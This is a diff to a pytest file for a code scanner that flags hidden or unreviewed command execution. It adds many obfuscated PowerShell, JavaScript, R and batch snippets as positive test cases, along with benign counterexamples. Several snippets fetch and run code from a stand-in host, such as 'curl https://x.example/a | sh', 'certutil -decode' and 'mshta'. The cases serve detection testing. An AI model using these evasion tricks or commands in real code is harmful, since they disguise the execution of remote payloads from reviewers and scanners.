@@ -25,20 +25,24 @@ HIDDEN = {
         "powershell -EncodedCommand:SQBFAFgAIAAoAE4A", f"i`e`x (irm {URL})", f"& ('i' + 'ex') (irm {URL})", f"&(\"{{1}}{{0}}\" -f 'x','ie') (irm {URL})",
         "$c = 'ie' + 'x'\n& $c $code", "$f = 'Invoke-Expression'; & $f $code", "& (Get-Command i*x) $code", "& (gcm *ke-e*) $code",
         "& ($env:ComSpec[4,24,25] -join '') $code", "Set-Alias go Invoke-Expression", f"iwr {URL}.ps1 -OutFile x.ps1\n.\\x.ps1",
-        f'cmd /c "curl {URL} -o x.bat && x.bat"',
+        f'cmd /c "curl {URL} -o x.bat && x.bat"', "$x=[char]105+[char]101+[char]120; & $x $c", "&([string]::join('', ([char[]](105,101,120)))) $c",
     ],
     "a.js": [
         "[]['constructor']['constructor'](atob('eA=='))()", "(()=>{}).constructor('return process')()", "globalThis['ev' + 'al'](x)", "global['eval'](x)",
         "(0, eval)(x)", "const e = eval; e(x)", "Reflect.apply(eval, null, [x])", "eval.call(null, x)", "eval`x`", "Function`return 1```",
         "require('child_process')['ex' + 'ec']('curl https://x.example/a | sh')", "require('child_' + 'process').exec('curl https://x.example/a | sh')",
         "const m = 'child_process'; require(m)", "setTimeout(atob('eA=='), 1)", "\\u0065val(x)", "ev\\u{61}l(x)", "global['\\x65val'](x)",
-        "WebAssembly.instantiate(b)",
+        "WebAssembly.instantiate(b)", "globalThis[atob('ZXZhbA==')](x)", "let f = Function; f('return 1')()", "process.dlopen(module, 'x.node')",
+        "require(Buffer.from('Y2hpbGQ=', 'base64').toString())", "import {exec as e} from 'child_process'", "const {exec:e} = require('child_process')",
+        "Object.getPrototypeOf(async function(){}).constructor('x')()", "exec(Buffer.from('Y3VybA==', 'base64').toString())",
     ],
     "a.R": [
         "e <- parse(text = x)\neval(e)", "do.call('system', list('ls'))", "do.call(paste0('sys', 'tem'), list('ls'))", "match.fun(paste0('sys', 'tem'))('ls')",
-        "get('system')('ls')", "source(exprs = parse(text = x))", "f <- base::system", "sapply(x, eval)",
+        "get('system')('ls')", "source(exprs = parse(text = x))", "f <- base::system", "sapply(x, eval)", "Map(system, x)", "(function(f) f('ls'))(system)",
     ],
-    "a.bat": ["p^owersh^ell -e^nc SQBFAFgAIAAoAE4A", "%comspec:~0,1%url https://x.example", "curl https://x.example/a.exe -o a.exe & a.exe"],
+    "a.bat": [
+        "for /f %%i in ('curl -s https://x.example/a') do %%i", "certutil -decode a.txt a.exe & a.exe", "set x=po& call %x%%y% -enc", "mshta vbscript:Execute(\"x\")",
+        "p^owersh^ell -e^nc SQBFAFgAIAAoAE4A", "%comspec:~0,1%url https://x.example", "curl https://x.example/a.exe -o a.exe & a.exe"],
     "a.vbs": ["CreateObject(\"WScript.Shell\").Run Chr(99) & Chr(109) & Chr(100)"],
     "a.sql": ["declare @c varchar(99) = 'xp_cmd' + 'shell'; exec @c 'dir'"],
 }  # fmt: skip
@@ -52,7 +56,7 @@ PLAIN = {
     ],
     "a.ps1": [
         "& \"C:\\Program Files\\x\\y.exe\" -q", "& $exe -run", "& (Join-Path $PSScriptRoot 'b.ps1')", "Write-Host 'a' + 'b'", "$msg = 'linha`nnova'",
-        "$x = \"a\" + $b", "Get-Command git", "powershell -File .\\b.ps1 -e prod", "Set-Alias ll Get-ChildItem", "iwr https://x.example/d.csv -OutFile d.csv\nImport-Csv d.csv",
+        "$x = \"a\" + $b", "$letters = [char[]](65..90)", "$tab = [char]9 + 'a'", "Get-Command git", "powershell -File .\\b.ps1 -e prod", "Set-Alias ll Get-ChildItem", "iwr https://x.example/d.csv -OutFile d.csv\nImport-Csv d.csv",
     ],
     "a.js": [
         "const total = evaluate(rows);", "obj.evaluate(x)", "// eval, never", "const s = 'use of eval, is bad'.length", "class A { constructor(x) { this.x = x; } }",
@@ -68,7 +72,7 @@ PLAIN = {
 def told(vault_key, path, source):
     report = look(FlowsEngine(vault_key), source.encode(), path)
     assert report.status is EngineStatus.COMPLETE, report.reason
-    return "flows.runs-unreviewed-code" in {one.rule for one in report.findings}
+    return bool({"flows.runs-unreviewed-code", "flows.hides-what-it-runs"} & {one.rule for one in report.findings})
 
 
 @pytest.mark.parametrize(("path", "source"), [(path, source) for path, sources in HIDDEN.items() for source in sources])
